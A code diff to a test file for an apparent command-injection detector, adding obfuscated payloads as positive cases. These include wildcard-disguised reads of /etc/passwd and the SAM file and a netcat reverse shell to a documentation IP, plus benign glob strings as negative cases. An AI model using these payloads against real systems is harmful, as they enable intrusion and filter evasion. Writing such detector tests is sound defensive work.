@@ -442,8 +442,17 @@ const COMMAND_INJECTION: Case[] = [
   // The same words with an operand, on the next line too (payload lists' line-break bypass).
   ["query", "kw=sport;cat+/etc/passwd"],
   ["query", "host=|%0A%09type%0A%09%25SYSTEMROOT%25\\repair\\SAM"],
+  // A program named by the shape the shell expands (cmdinject.ts globPathEnd), after a separator or
+  // as a whole command line for an application that runs its value.
+  ["query", "ip=127.0.0.1%3B/%3F%3F%3F/%3F%3Ft+/%3F%3F%3F/p%3F%3Fs%3F%3F"],
+  ["query", "c=%3B/b%3F%3F/n%3F+-e+/b%3F%3F/sh+198.51.100.7+4444"],
+  ["query", "cmd=/%3F%3F%3F/%3F%3Ft+/%3F%3F%3F/p%3F%3Fs%3F%3F"],
+  ["body:json", JSON.stringify({ cmd: "/usr/?in/?c? -e /b??/sh 198.51.100.7 4444" })],
 ];
 const NOT_COMMAND_INJECTION: Case[] = [
+  // Route and file patterns with wildcards.
+  ["body:json", JSON.stringify({ routes: "/api/v?/users/* /api/v?/orders/*" })],
+  ["body:json", JSON.stringify({ glob: "/data/*/2024-??-*.csv /data/*/2025-??-*.csv" })],
   ["query", "q=fish+%26+chips"],
   ["query", "q=bread+%26+more"],
   ["body:json", JSON.stringify({ note: "\nMore details can be seen in the tutorials" })],
